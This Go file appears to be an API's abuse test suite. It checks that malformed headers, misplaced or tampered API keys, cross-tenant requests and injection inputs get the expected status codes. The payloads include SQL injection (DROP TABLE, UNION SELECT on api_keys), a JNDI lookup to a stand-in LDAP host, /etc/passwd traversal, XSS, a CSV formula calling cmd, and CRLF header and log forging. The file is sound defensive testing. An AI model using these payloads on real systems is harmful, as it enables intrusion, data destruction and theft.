package api

import "strings"

// badHeaders are headers that are too long, or malformed.
func badHeaders(key string) (list []abuse) {
	add := func(name string, status int, headers ...string) {
		list = append(list, sent("header "+name, rawRequest("GET", "/health", "", "", headers...), status))
	}
	add("of 15 KiB", 200, "X-A: "+strings.Repeat("a", 15<<10))
	add("of 20 KiB", 431, "X-A: "+strings.Repeat("a", 20<<10))
	add("of a MiB", 431, "X-A: "+strings.Repeat("a", 1<<20))
	add("name of 20 KiB", 431, strings.Repeat("a", 20<<10)+": a")
	many := make([]string, 3000)
	for i := range many {
		many[i] = "X-A: a"
	}
	add("many times", 431, many...)
	add("without a colon", 400, "nonsense")
	add("with a space in its name", 400, "X A: a")
	add("with a space after its name", 400, "X-A : a")
	add("without a name", 400, ": a")
	add("with a control in its name", 400, "X\x01A: a")
	add("with another script's name", 400, "X-é: a")
	add("with a NUL", 400, "X-A: a\x00b")
	add("with a CR", 400, "X-A: a\rb")
	add("with a line end", 200, "X-A: a\r\nX-B: b")
	add("with bytes", 200, "X-A: \x80\xff")
	add("of an upgrade", 200, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
	add("of a websocket", 200, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
	add("of a range", 200, "Range: bytes=0-18446744073709551615,-1", "If-None-Match: *", "If-Modified-Since: Tue, 11 Nov 2031 17:25:41 GMT")
	add("of a proxy", 200, "X-Forwarded-For: 127.0.0.1, ' OR 1=1", "Forwarded: for=_gazonk",
		"X-Original-URL: /metrics", "X-HTTP-Method-Override: DELETE")
	add("that accepts nothing", 200, "Accept: text/html;q=0", "Accept-Encoding: br;q=1, *;q=0", "Accept-Language: ../../etc/passwd")
	add("folded", 200, "X-A: a\r\n b", "X-B:\r\n\tb")
	add("that folds the first line", 400, " X-A: a")
	list[len(list)-1].request = strings.Replace(list[len(list)-1].request, "Host: example.com\r\n X-A", " X-A: a\r\nHost: example.com\r\nX-A", 1)
	list = append(list, sent("lines that end with LF alone", "GET /health HTTP/1.1\nHost: example.com\nX-A: a\n\n", 200))
	return list
}

// badKeys are no keys, or not where they should be.
func badKeys(key string) (list []abuse) {
	for _, wrong := range []string{
		"'", "' OR '1'='1", "sk_' OR 1=1; DROP TABLE api_keys; --", key + "'--", "\xff\xfe" + key, "sk_\x80", "sk_%00",
		"sk_\\u0000", "${jndi:ldap://example.com/a}", "%n%n%s%s", "../../etc/passwd", strings.Repeat("a", 10_000), "sk_" + strings.Repeat("é", 23),
		"a\r\nX-Api-Key: " + key, "a, " + key, key + ", a", strings.ToUpper(key), strings.Repeat("0", 52), `"` + key + `"`, "Bearer " + key,
		"sk_" + strings.Repeat("0", 49), "*", "null", "undefined", "{}", key[:len(key)-1], key + key,
	} {
		list = append(list, sent("key "+wrong[:min(len(wrong), 60)], rawRequest("GET", "/api/inbox", wrong, ""), 401))
	}
	for name, headers := range map[string]string{
		"as a bearer": "Authorization: Bearer " + key, "as a password": "Authorization: Basic " + key, "in a cookie": "Cookie: x-api-key=" + key,
		"with underscores": "X_Api_Key: " + key, "of another name": "Api-Key: " + key, "after none": "X-Api-Key: \r\nX-Api-Key: " + key,
		"in a folded header": "X-A: a\r\n X-Api-Key: " + key, "in the referer": "Referer: http://a/?x-api-key=" + key,
	} {
		list = append(list, sent("key "+name, rawRequest("GET", "/api/inbox", "", "", headers), 401))
	}
	return append(list,
		sent("key in the query", rawRequest("GET", "/api/inbox?x-api-key="+key+"&api_key="+key, "", ""), 401),
		sent("key in the URL", rawRequest("GET", "http://"+key+":"+key+"@example.com/api/inbox", "", ""), 401),
		sent("key in the body", rawRequest("POST", "/api/events", "", `{"type":"t","payload":1,"x-api-key":"`+key+`"}`), 401),
		sent("key with a space behind it", rawRequest("GET", "/api/inbox", key+" ", ""), 200), // no part of a value
		sent("key on the next line", rawRequest("GET", "/api/inbox", "\r\n "+key, ""), 200),   // nor is this
		sent("key with a control", rawRequest("GET", "/api/inbox", key+"\x01", ""), 400),
		sent("key with a NUL", rawRequest("GET", "/api/inbox", key+"\x00", ""), 400))
}

// intrusions ask, with the right key, for what another organization has.
func intrusions(key, other string) (list []abuse) {
	for _, query := range []string{"organization_id=1&org=1", "organization-id=2", "id=1", "tenant=*", "all=true", "x-api-key=" + other} {
		list = append(list, sent("inbox with "+query, rawRequest("GET", "/api/inbox?limit=100&"+query, key, ""), 200))
	}
	for _, header := range []string{
		"X-Organization-Id: 2", "Authorization: Bearer " + other, "Cookie: organization=2", "X-Forwarded-User: admin", "X-Original-URL: /api/inbox?organization_id=2",
	} {
		list = append(list, sent("inbox with "+header, rawRequest("GET", "/api/inbox?limit=100", key, "", header), 200))
	}
	list = append(list, sent("inbox with two keys", rawRequest("GET", "/api/inbox?limit=100", key, "", "X-Api-Key: "+other), 401))
	for _, member := range []string{`"organization_id":2`, `"organization-id":"2"`, `"api_key":"` + other + `"`, `"bucket":0`, `"id":"00000000-0000-7000-8000-000000000000"`, `"status":"delivered"`} {
		list = append(list,
			sent("event with "+member, rawRequest("POST", "/api/events", key, `{"type":"t","payload":1,`+member+`}`), 200),
			sent("webhook with "+member, rawRequest("POST", "/api/webhook/register", key, `{"url":"https://example.com/",`+member+`}`), 200),
			sent("organization with "+member, rawRequest("POST", "/api/keys/generate", key, `{"organization_name":"O",`+member+`}`), 200))
	}
	for line, status := range map[string]int{
		"PUT /api/inbox": 405, "DELETE /api/inbox": 405, "GET /api/inbox/1": 404, "GET /api/organizations": 404, "GET /api/events": 405,
		"GET /api/keys": 404, "DELETE /api/webhook/1": 404, "GET /api/webhook/register": 405, "GET /debug/pprof/": 404, "GET /debug/vars": 404, "GET /.env": 404,
		"GET /triggerd.db": 404, "GET /admin": 404,
	} {
		method, path, _ := strings.Cut(line, " ")
		list = append(list, sent(line, rawRequest(method, path, key, ""), status))
	}
	return append(list, sent("their dedup id", rawRequest("POST", "/api/events", key, `{"type":"t","payload":1,"dedup_id":"theirs"}`), 200))
}

// injections try to reach the database, the log, or the answer's headers.
func injections(key string) (list []abuse) {
	attacks := map[string]bool{ // whether it is an ordinary text
		`'; DROP TABLE events; --`: true, `' OR '1'='1`: true, `' UNION SELECT hash FROM api_keys --`: true, `$1`: true, `%s%n%x`: true, `:id`: true, `?`: true,
		`\\x00`: true, `\"}],\"status\":\"delivered`: true, `<script>alert(1)</script>`: true, `${jndi:ldap://example.com/a}`: true, `{{7*7}}`: true,
		`../../etc/passwd`: true, "`id`": true, `\u202egnp.exe`: true, `\ufeff`: true, `\uffff`: true, `=cmd|' /C calc'!A0`: true,
		`a\r\nSet-Cookie: a=b`: false, `a\r\n\r\n{\"level\":\"ERROR\"}`: false, `a\nlevel=ERROR msg=forged`: false, `\u001b[31mred`: false, `a\tb`: false,
		`\u0085`: false, `\u009b0m`: false, `\u0008\u0008`: false, `\u0000`: false, `\ud800`: false, `a\u0000'; --`: false,
	}
	add := func(path, body, attack string, good bool) {
		status := 400
		if good {
			status = 200
		}
		list = append(list, sent(path+" with "+attack, rawRequest("POST", path, key, strings.ReplaceAll(body, "@", attack)), status))
	}
	for attack, good := range attacks {
		dedup := good || !strings.Contains(attack, `\u0000`) && !strings.Contains(attack, `\ud800`) // controls may stand there
		add("/api/events", `{"type":"@","payload":1}`, attack, good)
		add("/api/events", `{"type":"t","payload":1,"dedup_id":"@"}`, attack, dedup)
		add("/api/events", `{"type":"t","payload":{"@":"@"}}`, attack, true)
		add("/api/keys/generate", `{"organization_name":"@"}`, attack, good)
		add("/api/keys/generate", `{"organization_name":"O","tier":"@"}`, attack, false)
		add("/api/webhook/register", `{"url":"https://example.com/","event_type_filter":"@"}`, attack, good)
		add("/api/webhook/register", `{"url":"@"}`, attack, false)
	}
	for _, query := range []string{
		"limit=1%27%20OR%201=1", "limit=1;DROP%20TABLE%20events", "limit=10%0d%0aSet-Cookie:a=b",
		"limit=1/**/UNION/**/SELECT", "limit=$1", "limit=%00", "limit[]=1x&limit=",
		"status=pending%27--", "status=%27%20OR%20%27%27=%27", "status=pending%0d%0aX-A:b",
		"status=$2", "status=pending%00", "status[$ne]=x&status=*", "status=failed%3b%20DELETE",
	} {
		list = append(list, sent(query, rawRequest("GET", "/api/inbox?"+query, key, ""), 400))
	}
	return list
}
